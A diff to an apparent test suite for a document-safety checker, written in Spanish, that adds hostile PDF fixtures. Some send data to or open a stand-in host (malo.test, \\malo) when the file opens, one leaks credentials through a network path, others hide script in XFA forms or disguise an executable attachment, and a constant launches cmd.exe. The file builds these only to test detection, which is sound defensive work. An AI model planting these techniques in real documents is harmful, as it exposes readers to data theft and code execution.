@@ -62,6 +62,23 @@ def _enlace(**accion_del_enlace):
     return _pagina(Annots=pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=suya)]))
 
 
+def _xfa(*pedazos: bytes):
+    def poner(documento):
+        suyos = pikepdf.Array([documento.make_stream(pedazo) for pedazo in pedazos])
+        documento.Root.AcroForm = pikepdf.Dictionary(XFA=suyos if len(pedazos) > 1 else suyos[0])
+
+    return poner
+
+
+def _con_dos_nombres(documento):
+    _adjunto("acta.txt", b"x")(documento)
+    documento.Root.Names.EmbeddedFiles.Names[1].F = "a.exe"
+
+
+def _al_abrir(tipo: str, **mas):
+    return pdf(_catalogo(OpenAction=pikepdf.Dictionary(S=pikepdf.Name(f"/{tipo}"), **mas)))
+
+
 def _con_ruta(nombre: str, modo: int = 0) -> bytes:
     salida = io.BytesIO()
     with zipfile.ZipFile(salida, "w") as archivo:
@@ -91,6 +108,7 @@ LAUNCH = {"S": pikepdf.Name.Launch, "F": "cmd.exe"}
 # Lo que nombran los OpenOffice 1, y lo que deja vacío todo LibreOffice.
 DTD_VIEJA = '<!DOCTYPE office:document-content PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "office.dtd">'
 ATAJOS_VACIOS = {"Configurations2__accelerator__current_xml": b""}
+FIRMA = pikepdf.Dictionary(Type=pikepdf.Name.Sig, ByteRange=pikepdf.Array([0, 1, 2, 3]))
 MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
 
 # Qué dice de cada uno, y su nombre.
@@ -218,6 +236,17 @@ MALOS = {
         pdf(_catalogo(Names=pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([]))))), "JavaScript"),
     "guion de página.pdf": (pdf(_pagina(AA=pikepdf.Dictionary(C=accion()))), "JavaScript"),
     "guion al verse.pdf": (pdf(_campo(PV=accion())), "JavaScript"),
+    "envía al abrirse.pdf": (_al_abrir("SubmitForm", F="https://malo.test/"), "va sola a otro lugar"),
+    "va a una página al abrirse.pdf": (_al_abrir("URI", URI="https://malo.test/"), "va sola a otro lugar"),
+    "abre un archivo de la red.pdf": (_al_abrir("GoToR", F=r"\\malo\a.pdf"), "abre programas u otros archivos"),
+    "activa un video al abrirse.pdf": (_al_abrir("RichMediaExecute"), "abre programas u otros archivos"),
+    "delata la clave.pdf": (
+        pdf(_pagina(AA=pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.GoToE, F=r"\\malo\a")))), "abre"),
+    "formulario con programas.pdf": (pdf(_xfa(b"<a><x:scr", b"ipt>app.alert(1)</x:script></a>")), "JavaScript"),
+    "formulario de una pieza.pdf": (pdf(_xfa("<script/>".encode("utf-16"))), "JavaScript"),
+    "animación.pdf": (pdf(_adjunto("a.bin", b"CWS\x0a\x10\x02\x00" + b"\x00" * 20)), "programa"),
+    "adjunto con dos nombres.pdf": (pdf(_con_dos_nombres), "programa"),
+    "firmado.pdf": (pdf(_catalogo(OpenAction=accion(), V=FIRMA)), "un enlace a él"),
     "programa adjunto.pdf": (pdf(_adjunto("a.exe", b"x")), "programa"),
     "programa con otro nombre.pdf": (pdf(_adjunto("a.txt", EXE)), "programa"),
     "macros adjuntas.pdf": (pdf(_adjunto("a.docx", office("docx", word__vbaProject_bin=b"x"))), "macros"),
@@ -231,6 +260,9 @@ BUENOS = {
     "formulario.pdf": pdf(_campo(K=accion("AFNumber_Keystroke()"), F=accion("AFNumber_Format()"), Fo=accion())),
     "con enlace.pdf": pdf(_enlace(S=pikepdf.Name.URI, URI="https://www.cartagena.gov.co")),
     "abre en la primera página.pdf": pdf(_catalogo(OpenAction=pikepdf.Array([0, pikepdf.Name.Fit]))),
+    "abre en la página 2 y se imprime.pdf": _al_abrir("GoTo", Next=pikepdf.Dictionary(S=pikepdf.Name.Named)),
+    "formulario de datos.pdf": pdf(_xfa(b"<datos><descripcion/></datos>")),
+    "firmado bueno.pdf": pdf(_catalogo(V=FIRMA)),
     "factura electrónica.pdf": pdf(_adjunto("factura.xml", b"<?xml version='1.0'?><Invoice/>")),
     "sin permiso de copiar.pdf": pdf(clave=""),
     "informe.docx": office(
